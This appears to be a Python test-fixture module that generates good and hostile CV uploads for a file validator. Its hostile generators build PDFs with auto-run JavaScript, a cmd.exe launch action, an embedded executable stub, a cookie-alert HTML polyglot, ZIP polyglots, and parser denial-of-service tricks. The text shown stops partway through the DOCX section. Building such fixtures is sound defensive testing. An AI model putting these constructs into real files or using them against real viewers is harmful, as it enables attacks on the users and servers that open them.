"""Good and hostile CV files, built in code so no binary fixture is ever committed.

Every generator is a pure function returning ``bytes`` (the expensive ones are cached; bytes are
immutable, so sharing them is safe). Other test modules import from here:

- ``valid_pdf()``, ``valid_docx()`` and ``GOOD_CVS``: files that must be accepted.
- ``HOSTILE_CVS`` (name -> generator) and ``EXPECTED_REJECTION`` (name -> ``CvRejected.code``):
  files that must be rejected. Check them with ``max_bytes=HOSTILE_MAX_BYTES``.
- ``oversized_cv(max_bytes)``: a valid PDF one byte over a limit.
- ``hostile_filenames()``: client-supplied names that must never reach a path, header or page.

The low-level builders (``build_pdf``, ``build_pdf_with_object_stream``, ``pdf_with_info``,
``build_zip``, ``build_docx``) are public too, for tests that need a variant of their own.
"""

from __future__ import annotations

import dataclasses
import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from typing import Any

from pypdf import PdfWriter

#: The ``max_bytes`` to pass to ``inspect_cv`` when checking ``HOSTILE_CVS``: small enough that the
#: "oversize" case stays cheap, large enough for every other file here.
HOSTILE_MAX_BYTES = 2 * 1024 * 1024

# --------------------------------------------------------------------------------------------
# PDF building blocks
# --------------------------------------------------------------------------------------------

PDF_HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def pdf_stream(entries: bytes, data: bytes) -> bytes:
    """Return the body of a stream object: its dictionary (with a correct /Length) and data."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def build_pdf(
    objects: Mapping[int, bytes],
    *,
    root: int = 1,
    trailer_extra: bytes = b"",
    body_prefix: bytes = b"",
    omit_from_xref: Iterable[int] = (),
    extra_xref: Mapping[int, int] | None = None,
) -> bytes:
    """Build a PDF with a classic cross-reference table whose offsets are all correct.

    ``objects`` maps object numbers to what goes between ``N 0 obj`` and ``endobj``.
    ``body_prefix`` is written between the header and the first object (readers never look
    there, which is what makes it a hiding place). Objects in ``omit_from_xref`` are written
    but left out of the table. ``extra_xref`` lists more objects (number -> offset) that are
    not written as objects of their own: their offsets point into the others. The body does
    not depend on the table, so a first build tells where those offsets are.
    """
    out = bytearray(PDF_HEADER + body_prefix)
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    hidden = set(omit_from_xref)
    offsets.update(extra_xref or {})
    size = max(n for n in offsets if n not in hidden) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets and number not in hidden:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\n" % (size, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def build_pdf_with_object_stream(
    plain: Mapping[int, bytes], packed: Mapping[int, bytes], *, root: int = 1
) -> bytes:
    """Build a PDF 1.5+ file whose ``packed`` objects live inside a compressed /ObjStm.

    Objects in an object stream are invisible to anyone grepping the raw bytes; only the
    cross-reference *stream* (also written here, compressed) says where they are.
    """
    stream_number = max([*plain, *packed]) + 1
    xref_number = stream_number + 1

    index, body = [], bytearray()
    position = {number: i for i, number in enumerate(sorted(packed))}
    for number in sorted(packed):
        index.append(b"%d %d" % (number, len(body)))
        body += packed[number] + b"\n"
    header = b" ".join(index) + b"\n"
    compressed = zlib.compress(header + bytes(body))
    objects = dict(plain)
    objects[stream_number] = pdf_stream(
        b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(header)),
        compressed,
    )

    out = bytearray(PDF_HEADER)
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    offsets[xref_number] = len(out)

    rows = bytearray(struct.pack(">BII", 0, 0, 65535))
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BII", 1, offsets[number], 0)
        else:
            rows += struct.pack(">BII", 2, stream_number, position[number])
    xref_data = zlib.compress(bytes(rows))
    xref_entries = b"/Type /XRef /Size %d /W [1 4 4] /Root %d 0 R /Filter /FlateDecode" % (
        xref_number + 1,
        root,
    )
    out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, pdf_stream(xref_entries, xref_data))
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def _page_objects(
    *,
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    content: bytes = b"BT /F1 24 Tf 72 720 Td (Jane Doe - Curriculum Vitae) Tj ET",
) -> dict[int, bytes]:
    """Objects 1-6 of a one-page CV: catalog, pages, page, font, contents, info."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R %s>>" % page_extra,
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        5: pdf_stream(b"", content),
        6: b"<< /Title (Curriculum Vitae) /Producer (hostile_uploads) >>",
    }


def _simple_pdf(**kwargs: bytes) -> bytes:
    return build_pdf(_page_objects(**kwargs), trailer_extra=b"/Info 6 0 R ")


def pdf_with_info(entries: bytes) -> bytes:
    """A one-page PDF whose document information dictionary holds ``entries``."""
    objects = _page_objects()
    objects[6] = b"<< %s >>" % entries
    return build_pdf(objects, trailer_extra=b"/Info 6 0 R ")


# --------------------------------------------------------------------------------------------
# Good PDFs
# --------------------------------------------------------------------------------------------


def valid_pdf(size_bytes: int | None = None) -> bytes:
    """A minimal, valid one-page PDF.

    With ``size_bytes``, comment lines are added to the page's content stream (comments are
    legal there and change nothing on the page) until the file is exactly that long.
    """
    if size_bytes is None:
        return _simple_pdf(content=_padded_content(0))
    padding = 0
    for _attempt in range(5):
        data = _simple_pdf(content=_padded_content(padding))
        if len(data) == size_bytes:
            return data
        padding += size_bytes - len(data)
        if padding < 0:
            raise ValueError(f"a valid PDF cannot be as small as {size_bytes} bytes")
    raise AssertionError("padding did not converge")  # pragma: no cover


def _padded_content(padding: int) -> bytes:
    """Page content followed by ``padding`` bytes of comment lines ("\n%xxxx")."""
    lines, remaining = [], padding
    while remaining > 0:
        width = min(remaining, 80)
        lines.append((b"\n%" + b"x" * (width - 2))[:width])
        remaining -= width
    return b"BT /F1 24 Tf 72 720 Td (Jane Doe - Curriculum Vitae) Tj ET" + b"".join(lines)


def valid_pdf_with_link() -> bytes:
    """A valid PDF with a clickable https link (an ordinary /URI action), which must pass."""
    objects = _page_objects(page_extra=b"/Annots [7 0 R] ")
    objects[7] = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 690 300 710] /Border [0 0 0] "
        b"/A << /S /URI /URI (https://www.linkedin.com/in/jane-doe) >> >>"
    )
    return build_pdf(objects, trailer_extra=b"/Info 6 0 R ")


def valid_pdf_with_open_view() -> bytes:
    """A valid PDF whose /OpenAction is a destination ("open at page 1, fit"), as LaTeX's
    hyperref writes by default. It runs nothing, so it must pass."""
    return _simple_pdf(catalog_extra=b"/OpenAction [3 0 R /Fit] /PageMode /UseNone ")


def valid_pdf_with_object_stream() -> bytes:
    """A valid PDF 1.5 file whose catalog and pages live in a compressed object stream."""
    objects = _page_objects()
    packed = {n: objects.pop(n) for n in (1, 2, 3, 4)}
    return build_pdf_with_object_stream(objects, packed)


def valid_pdf_with_binary_image(side: int = 128) -> bytes:
    """A page showing a raw ``side`` x ``side`` greyscale image whose bytes hold every value,
    with runs of unbalanced "(", "<" and "%" and stray backslashes, as compressed images and
    fonts do. Stream data is not PDF syntax: none of it may be taken for a string."""
    pattern = b"((((<<<<%%\\" + bytes(range(256))
    pixels = (pattern * (side * side // len(pattern) + 1))[: side * side]
    image = pdf_stream(
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8" % (side, side),
        pixels,
    )
    objects = _page_objects(
        content=b"q 128 0 0 128 72 560 cm /Im1 Do Q BT /F1 24 Tf 72 720 Td (Jane Doe) Tj ET"
    )
    objects[3] = objects[3].replace(
        b"/Font << /F1 4 0 R >>", b"/Font << /F1 4 0 R >> /XObject << /Im1 7 0 R >>"
    )
    objects[7] = image
    return build_pdf(objects, trailer_extra=b"/Info 6 0 R ")


def valid_pdf_with_many_strings() -> bytes:
    """A CV with 400 short strings outside its content stream: 200 links, each with a target
    and a tooltip (escaped and nested parentheses included), and metadata partly in hex, as
    word processors write them. Together they are far below the cap on all strings."""
    links = range(7, 207)
    annotations = b" ".join(b"%d 0 R" % number for number in links)
    objects = _page_objects(page_extra=b"/Annots [%s] " % annotations)
    for number in links:
        objects[number] = (
            b"<< /Type /Annot /Subtype /Link /Rect [72 %d 300 %d] /Border [0 0 0] "
            b"/Contents (Project %d \\(2019\\) (lead)) "
            b"/A << /S /URI /URI (https://portfolio.example/projects/%d) >> >>"
            % (100 + number, 110 + number, number, number)
        )
    objects[6] = (
        b"<< /Title <FEFF004A0061006E006500200044006F0065> /Author (Jane Doe) "
        b"/Subject (Curriculum Vitae \\(2024\\)) >>"
    )
    return build_pdf(objects, trailer_extra=b"/Info 6 0 R ")


# --------------------------------------------------------------------------------------------
# Hostile PDFs
# --------------------------------------------------------------------------------------------


def pdf_open_action_javascript() -> bytes:
    """A PDF that runs JavaScript as soon as it is opened."""
    return _simple_pdf(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert('owned')) >> ")


def pdf_javascript_in_object_stream() -> bytes:
    """JavaScript in the document-level /Names tree, hidden twice over: inside a compressed
    object stream, and with hex-escaped names (``/J#61vaScript`` is ``/JavaScript``)."""
    objects = _page_objects(catalog_extra=b"/Names << /J#61vaScript 7 0 R >> ")
    objects[7] = b"<< /Names [(init) 8 0 R] >>"
    objects[8] = b"<< /S /J#61vaScript /J#53 (app.launchURL('https://evil.example/')) >>"
    packed = {n: objects.pop(n) for n in (1, 7, 8)}
    return build_pdf_with_object_stream(objects, packed)


def pdf_launch_action() -> bytes:
    """A link annotation that launches a program when clicked."""
    objects = _page_objects(page_extra=b"/Annots [7 0 R] ")
    objects[7] = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 690 300 710] "
        b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
    )
    return build_pdf(objects)


def pdf_embedded_file() -> bytes:
    """A PDF carrying an attached executable in its /EmbeddedFiles name tree."""
    payload = b"MZ\x90\x00" + b"\x00" * 60
    objects = _page_objects(catalog_extra=b"/Names << /EmbeddedFiles 7 0 R >> ")
    objects[7] = b"<< /Names [(invoice.exe) 8 0 R] >>"
    objects[8] = b"<< /Type /Filespec /F (invoice.exe) /EF << /F 9 0 R >> >>"
    objects[9] = pdf_stream(b"/Type /EmbeddedFile", payload)
    return build_pdf(objects)


def pdf_open_action_uri() -> bytes:
    """A PDF that opens a web address by itself as soon as it is viewed (tracking/phishing)."""
    return _simple_pdf(
        catalog_extra=b"/OpenAction << /S /URI /URI (https://tracker.example/opened) >> "
    )


def pdf_javascript_uri_link() -> bytes:
    """A link whose target is a ``javascript:`` URL rather than a web address."""
    objects = _page_objects(page_extra=b"/Annots [7 0 R] ")
    objects[7] = (
        b"<< /Type /Annot /Subtype /Link /Rect [72 690 300 710] "
        b"/A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>"
    )
    return build_pdf(objects)


def pdf_3d_javascript() -> bytes:
    """A 3D annotation whose artwork runs JavaScript when it is instantiated."""
    objects = _page_objects(page_extra=b"/Annots [7 0 R] ")
    objects[7] = b"<< /Type /Annot /Subtype /3D /Rect [72 400 300 600] /3DD 8 0 R >>"
    objects[8] = pdf_stream(b"/Type /3D /Subtype /U3D /OnInstantiate 9 0 R", b"U3D\x00")
    objects[9] = pdf_stream(b"", b"host.app.alert('3d');")
    return build_pdf(objects)


def pdf_trailing_html() -> bytes:
    """A valid PDF followed by an HTML page after ``%%EOF`` (a PDF/HTML polyglot)."""
    return valid_pdf() + b"<html><body><script>alert(document.cookie)</script></body></html>\n"


def pdf_zip_polyglot_appended() -> bytes:
    """A valid PDF with a ZIP archive appended: opens as a PDF and as a ZIP."""
    return valid_pdf() + _plain_zip()


def pdf_zip_polyglot_inside() -> bytes:
    """A ZIP archive hidden between the PDF header and its first object, with the PDF's own
    trailer last. Nothing trails ``%%EOF``, yet ZIP tools still open the archive."""
    return build_pdf(_page_objects(), body_prefix=_plain_zip())


def pdf_truncated() -> bytes:
    """The first half of a valid PDF (an interrupted upload or a damaged file)."""
    data = valid_pdf()
    return data[: len(data) // 2]


def pdf_garbage() -> bytes:
    """A PDF header and ``%%EOF`` with nothing parseable in between."""
    return b"%PDF-1.4\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"


def pdf_object_outside_xref() -> bytes:
    """The catalog points at an object the cross-reference table does not list. Lenient
    readers find it by scanning the raw bytes (and pypdf only logs a warning, even in strict
    mode), which is exactly how content hides from tools that trust the table."""
    objects = _page_objects(catalog_extra=b"/Metadata 7 0 R ")
    objects[7] = b"<< /Type /Metadata >>"
    return build_pdf(objects, omit_from_xref=[7])


def pdf_encrypted_with_password() -> bytes:
    """A PDF that needs a password to open (recruiters could not read it)."""
    writer = PdfWriter(clone_from=io.BytesIO(valid_pdf()))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    return _write(writer)


def pdf_encrypted_owner_only() -> bytes:
    """A PDF that opens without a password but is encrypted to restrict copying/printing."""
    writer = PdfWriter(clone_from=io.BytesIO(valid_pdf()))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    return _write(writer)


def pdf_encrypted_aes256() -> bytes:
    """An AES-256 (revision 6) encryption dictionary, as Acrobat writes. The key material is
    dummy bytes: what matters is that the file declares encryption that pypdf cannot undo
    without an optional crypto library."""
    encrypt = (
        b"<< /Filter /Standard /V 5 /R 6 /Length 256 /P -1028 "
        b"/O <%s> /U <%s> /OE <%s> /UE <%s> /Perms <%s> "
        b"/CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> "
        b"/StmF /StdCF /StrF /StdCF >>"
    ) % (b"11" * 48, b"22" * 48, b"33" * 32, b"44" * 32, b"55" * 16)
    objects = _page_objects()
    objects[7] = encrypt
    return build_pdf(
        objects, trailer_extra=b"/Encrypt 7 0 R /ID [<%s> <%s>] " % (b"ab" * 16, b"ab" * 16)
    )


@functools.cache
def pdf_too_many_objects() -> bytes:
    """100 001 tiny objects packed into one object stream: a few hundred KB that expand into
    a graph large enough to tie up a worker."""
    objects = _page_objects()
    packed = {n: b"null" for n in range(7, 100_008)}
    return build_pdf_with_object_stream(objects, packed)


# pypdf parses strings byte by byte: a file made of them costs seconds of CPU. No real CV has
# a string this long outside its content streams (the checks refuse those over 64 KB).
_HUGE_STRING_BYTES = 300 * 1024


def pdf_huge_literal_string() -> bytes:
    """A 300 KB document title, as a literal string (escaped parentheses included)."""
    return pdf_with_info(b"/Title (Jane \\(CV\\) " + b"A" * _HUGE_STRING_BYTES + b")")


def pdf_huge_hex_string() -> bytes:
    """A 300 KB document title, as a hex string."""
    return pdf_with_info(b"/Title <" + b"4A" * (_HUGE_STRING_BYTES // 2) + b">")


def pdf_many_long_strings() -> bytes:
    """Twelve 60 KB strings: each under the cap on one string, too much together."""
    entries = b" ".join(b"/K%d (%s)" % (i, b"A" * 60 * 1024) for i in range(12))
    return pdf_with_info(entries)


def pdf_huge_string_in_object_stream() -> bytes:
    """A 300 KB title in an object packed in a compressed object stream, where a scan of the
    raw file cannot see it (it compresses to a few hundred bytes)."""
    objects = _page_objects()
    objects[6] = b"<< /Title (" + b"A" * _HUGE_STRING_BYTES + b") >>"
    packed = {n: objects.pop(n) for n in (1, 2, 6)}
    return build_pdf_with_object_stream(objects, packed)


def pdf_object_hidden_in_stream_data() -> bytes:
    """The cross-reference table places the document information (a 300 KB title) inside
    another object's stream data, which a scan of the file skips unread."""
    hidden = b"8 0 obj\n<< /Title (" + b"A" * _HUGE_STRING_BYTES + b") >>\nendobj\n"
    objects = _page_objects()
    objects[7] = pdf_stream(b"", b"q Q\n" + hidden)
    offset = build_pdf(objects).index(b"8 0 obj")
    return build_pdf(objects, trailer_extra=b"/Info 8 0 R ", extra_xref={8: offset})


def pdf_trailer_hidden_in_stream_data() -> bytes:
    """``startxref`` points at a cross-reference table and trailer kept inside a stream's
    data, the trailer holding a 300 KB string. Readers parse the trailer while opening the
    file, before any object can be checked."""
    plain = build_pdf(_page_objects())
    table_at = plain.index(b"xref\n")
    table = plain[table_at : plain.index(b"startxref")]
    table = table.replace(b">>\n", b"/Junk (" + b"A" * _HUGE_STRING_BYTES + b") >>\n")
    out = plain[:table_at] + b"7 0 obj\n<< /Length %d >>\nstream\n" % len(table)
    hidden_at = len(out)
    out += table + b"\nendstream\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % hidden_at


def pdf_nested_stream_with_early_endstream() -> bytes:
    """A stream nested in an array (streams must be objects of their own) whose data holds
    "endstream" and a "%": a scan ending the data at the first "endstream" would take the
    rest of the line for a comment, while the reader parses a 300 KB string after it."""
    data = b"x endstream %"
    objects = _page_objects()
    objects[6] = (
        b"<< /Title (CV) /Extra [ << /Length %d >>\nstream\n%s endstream (\n" % (len(data), data)
        + b"A" * _HUGE_STRING_BYTES
        + b") ] >>"
    )
    return build_pdf(objects, trailer_extra=b"/Info 6 0 R ")


def pdf_object_header_hiding_a_string() -> bytes:
    """An object header written "6 0 o%j": readers take any three bytes there for "obj", so
    a scan reading "%j << /Title (" as a comment would miss the 300 KB title after it."""
    objects = _page_objects()
    objects[6] = b"<< /Title (\n" + b"A" * _HUGE_STRING_BYTES + b") >>"
    pdf = build_pdf(objects, trailer_extra=b"/Info 6 0 R ")
    # Same length, so every offset stays right.
    return pdf.replace(b"6 0 obj\n<< /Title (\n", b"6 0 o%j << /Title (\n", 1)


def pdf_dictionary_end_swallowing_a_comment_mark() -> bytes:
    """pypdf ends a dictionary at ">" and consumes the next byte, whatever it is: written
    ">%", the "%" starts no comment, and the 300 KB string after it is parsed."""
    return pdf_with_info(
        b"/Title (CV) /Extra << /A 1 >% /Subject (\n" + b"A" * _HUGE_STRING_BYTES + b") >>"
    )


def pdf_object_stream_objects_overlapping() -> bytes:
    """Objects in an object stream that each open an array closed only at the end: reading
    each object from its own offset, a reader would parse the 60 KB string at the end once
    per object, 200 times over."""
    objects = _page_objects()
    packed = {n: objects.pop(n) for n in (1, 2)}
    nested = range(7, 207)
    packed.update({n: b"[" for n in nested})
    packed[207] = b"(" + b"A" * 60 * 1024 + b")" + b"]" * len(nested)
    return build_pdf_with_object_stream(objects, packed)


def _write(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------
# ZIP building blocks
# --------------------------------------------------------------------------------------------

ZIP_STORED = 0
ZIP_DEFLATED = 8
S_IFLNK = 0o120000


@dataclass(frozen=True)
class RawZipEntry:
    """One ZIP entry, written byte for byte by ``build_zip`` (no sanitising, unlike zipfile).

    ``payload`` is what is stored (already deflated when ``method`` is 8). ``file_size`` and
    ``crc`` are what the headers *declare*. ``header_offset`` overrides where the central
    directory says the local header is; ``write_local=False`` writes no local header at all
    (the entry exists only in the central directory, pointing at someone else's data);
    ``in_central_directory=False`` writes only the local record (data no index mentions).
    """

    name: bytes
    payload: bytes
    file_size: int
    crc: int
    method: int = ZIP_DEFLATED
    flags: int = 0
    external_attr: int = 0
    header_offset: int | None = None
    write_local: bool = True
    in_central_directory: bool = True


def raw_entry(name: str | bytes, data: bytes, **overrides: Any) -> RawZipEntry:
    """A deflated, UTF-8-named ``RawZipEntry`` whose declared size and CRC match ``data``;
    ``overrides`` replace any field (e.g. ``flags``, ``external_attr``)."""
    entry = RawZipEntry(
        name=name.encode("utf-8") if isinstance(name, str) else name,
        payload=deflate(data),
        file_size=len(data),
        crc=zlib.crc32(data),
        flags=0x800,
    )
    return dataclasses.replace(entry, **overrides)


def deflate(data: bytes) -> bytes:
    """Raw deflate, as stored inside ZIP entries."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def build_zip(entries: Iterable[RawZipEntry], *, trailing: bytes = b"") -> bytes:
    """Write local headers, the central directory and the end record for ``entries``."""
    out = bytearray()
    central = bytearray()
    count = 0
    for entry in entries:
        local_offset = len(out)
        if entry.write_local:
            out += struct.pack(
                "<4s5H3L2H",
                b"PK\x03\x04",
                20,
                entry.flags,
                entry.method,
                0,
                0x21,
                entry.crc,
                len(entry.payload),
                entry.file_size,
                len(entry.name),
                0,
            )
            out += entry.name + entry.payload
        if not entry.in_central_directory:
            continue
        offset = local_offset if entry.header_offset is None else entry.header_offset
        central += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            0x0314,  # made by: Unix (so external_attr carries file mode bits)
            20,
            entry.flags,
            entry.method,
            0,
            0x21,
            entry.crc,
            len(entry.payload),
            entry.file_size,
            len(entry.name),
            0,
            0,
            0,
            0,
            entry.external_attr,
            offset,
        )
        central += entry.name
        count += 1
    central_offset = len(out)
    out += central
    out += struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), central_offset, 0
    )
    return bytes(out + trailing)


def _plain_zip() -> bytes:
    """An ordinary ZIP archive with no Office structure at all."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme.txt", "Not a CV.\n")
        archive.writestr("payload/run.sh", "#!/bin/sh\necho owned\n")
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------
# DOCX building blocks
# --------------------------------------------------------------------------------------------

MAIN_CONTENT_TYPE = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)
MACRO_MAIN_CONTENT_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_MAIN_CONTENT_TYPE = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def content_types_xml(
    overrides: Mapping[str, str] | None = None, defaults: Mapping[str, str] | None = None
) -> bytes:
    """``[Content_Types].xml`` declaring ``rels``/``xml`` defaults and the main document part."""
    all_defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        "png": "image/png",
        **(defaults or {}),
    }
    all_overrides = {"/word/document.xml": MAIN_CONTENT_TYPE, **(overrides or {})}
    rows = [f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in all_defaults.items()]
    rows += [f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in all_overrides.items()]
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(rows)
        + "</Types>"
    ).encode()


def relationships_xml(*relationships: tuple[str, str, str | None]) -> bytes:
    """A ``.rels`` part from ``(type suffix or full type URI, target, target mode)`` triples."""
    rows = []
    for number, (kind, target, mode) in enumerate(relationships, start=1):
        rel_type = kind if "://" in kind else f"{REL}/{kind}"
        mode_attr = f' TargetMode="{mode}"' if mode else ""
        rows.append(
            f'<Relationship Id="rId{number}" Type="{rel_type}" Target="{target}"{mode_attr}/>'
        )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rows)
        + "</Relationships>"
    ).encode()


def document_xml(body: str | None = None) -> bytes:
    """``word/document.xml`` with a name, a line of text and a hyperlink (relationship rId1)."""
    if body is None:
        body = (
            "<w:p><w:r><w:t>Jane Doe</w:t></w:r></w:p>"
            "<w:p><w:r><w:t>Senior engineer, ten years of Python.</w:t></w:r></w:p>"
            '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>LinkedIn profile</w:t></w:r>'
            "</w:hyperlink></w:p>"
        )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{REL}"><w:body>{body}</w:body></w:document>'
    ).encode()


WORDML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
HEADER_CONTENT_TYPE = f"{WORDML}.header+xml"
FOOTER_CONTENT_TYPE = f"{WORDML}.footer+xml"


def field_runs(*code: str, result: str = "") -> str:
    """The runs of a complex field: begin, its code split into one ``w:instrText`` run per
    piece of ``code`` (as Word splits it after edits), separate, ``result`` and end. XML
    special characters in ``code`` must already be escaped."""
    pieces = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + pieces
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + f"<w:r><w:t>{result}</w:t></w:r>"
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def story_xml(root: str, body: str) -> bytes:
    """A header (``root="hdr"``), footer (``"ftr"``), settings... part holding ``body``."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:{root} xmlns:w="{W_NS}" xmlns:r="{REL}">{body}</w:{root}>'
    ).encode()


MC_NS = "http://schemas.openxmlformats.org/markup-compatibility/2006"
VML_NS = "urn:schemas-microsoft-com:vml"
WPS_NS = "http://schemas.microsoft.com/office/word/2010/wordprocessingShape"


def text_box_with_fallback(content: str) -> str:
    """A text box holding ``content`` as Word writes it: an ``mc:AlternateContent`` whose
    Choice is for Word 2010 and later and whose Fallback (VML, for older readers) repeats the
    content. Shape details Word needs to draw it are left out; they change nothing here."""
    return (
        f'<mc:AlternateContent xmlns:mc="{MC_NS}" xmlns:v="{VML_NS}" xmlns:wps="{WPS_NS}">'
        f'<mc:Choice Requires="wps"><w:drawing><wps:txbx><w:txbxContent>{content}'
        "</w:txbxContent></wps:txbx></w:drawing></mc:Choice>"
        f"<mc:Fallback><w:pict><v:textbox><w:txbxContent>{content}</w:txbxContent>"
        "</v:textbox></w:pict></mc:Fallback></mc:AlternateContent>"
    )


def docx_with_field(*code: str) -> bytes:
    """A valid DOCX whose body holds one complex field with ``code`` split over runs."""
    return _docx_with({"word/document.xml": document_xml(f"<w:p>{field_runs(*code)}</w:p>")})


def _docx_with_story(
    relationship: str, target: str, data: bytes, *, overrides: Mapping[str, str] | None = None
) -> bytes:
    """A valid DOCX whose document links a header, footer... part stored at ``word/<target>``."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(overrides)
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        (relationship, target, None),
    )
    parts[f"word/{target}"] = data
    return build_docx(parts)


def valid_docx_parts() -> dict[str, bytes]:
    """The parts of a minimal valid DOCX, for tests to alter before ``build_docx``."""
    return {
        "[Content_Types].xml": content_types_xml(),
        "_rels/.rels": relationships_xml(("officeDocument", "word/document.xml", None)),
        "word/document.xml": document_xml(),
        "word/_rels/document.xml.rels": relationships_xml(
            ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External")
        ),
    }


def build_docx(parts: Mapping[str, bytes]) -> bytes:
    """Zip ``parts`` (name -> bytes) with zipfile, the way Word's own writer lays them out."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _docx_with(extra: Mapping[str, bytes]) -> bytes:
    return build_docx({**valid_docx_parts(), **extra})


def _raw_docx(*extra: RawZipEntry, parts: Mapping[str, bytes] | None = None) -> bytes:
    """A valid DOCX written with ``build_zip``, followed by ``extra`` raw entries."""
    base = parts if parts is not None else valid_docx_parts()
    return build_zip([*(raw_entry(n, d) for n, d in base.items()), *extra])


# --------------------------------------------------------------------------------------------
# Good DOCX files
# --------------------------------------------------------------------------------------------


def valid_docx() -> bytes:
    """A minimal valid DOCX with some text and one external hyperlink (which must pass:
    CVs link to LinkedIn and portfolios, and Word never fetches hyperlinks by itself)."""
    return build_docx(valid_docx_parts())


def _docx_with_template(target: str) -> bytes:
    parts = valid_docx_parts()
    parts["word/settings.xml"] = (
        f'<w:settings xmlns:w="{W_NS}" xmlns:r="{REL}"><w:attachedTemplate r:id="rId1"/>'
        "</w:settings>"
    ).encode()
    parts["word/_rels/settings.xml.rels"] = relationships_xml(
        ("attachedTemplate", target, "External")
    )
    parts["word/_rels/document.xml.rels"] = relationships_xml(
        ("hyperlink", "https://www.linkedin.com/in/jane-doe", "External"),
        ("settings", "settings.xml", None),
    )
    return build_docx(parts)


def valid_docx_from_office_template() -> bytes:
    """A DOCX made from one of Word's own resume templates: settings.xml.rels names the
    template by file name, marked External. Word looks it up locally and fetches nothing."""
    return _docx_with_template("TM16392910[[fn=Polished resume]].dotx")


def valid_docx_from_local_template() -> bytes:
    """A DOCX made from a template on the author's own disk (a local drive path)."""
    return _docx_with_template(
        "file:///C:\\Users\\jane\\AppData\\Roaming\\Microsoft\\Templates\\CV.dotx"
    )


def valid_docx_with_printer_settings() -> bytes:
    """A DOCX carrying Word's printer settings part: a ``.bin`` that is data, not code."""
    parts = valid_docx_parts()
    parts["[Content_Types].xml"] = content_types_xml(
        defaults={
            "bin": "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings"
        }
    )
    parts["word/printerSettings/printerSettings1.bin"] = b"\x00" * 220
